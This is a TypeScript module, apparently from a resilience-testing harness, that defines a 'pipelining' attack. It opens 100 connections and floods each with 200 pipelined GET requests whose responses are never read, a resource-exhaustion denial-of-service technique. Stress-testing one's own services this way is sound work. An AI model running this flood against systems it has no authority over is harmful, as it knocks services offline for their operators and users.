import { sized, type Attack } from '../../attack.ts'
import { flood, headOf, keepOpen } from '../../requests.ts'

/** Requests without end on each connection, whose responses are never read. */
export const pipelining: Attack = {
  name: 'pipelining',
  title: 'pipelined GETs without reading, 100 connections',
  run: (target, signal, note) => {
    const requests = `${headOf('GET /v1/messages?pageSize=100', target.own)}\r\n`.repeat(200)
    return keepOpen(target, sized(target, 100), signal, note, (socket) => {
      socket.pause()
      flood(socket, () => requests)
    })
  },
}
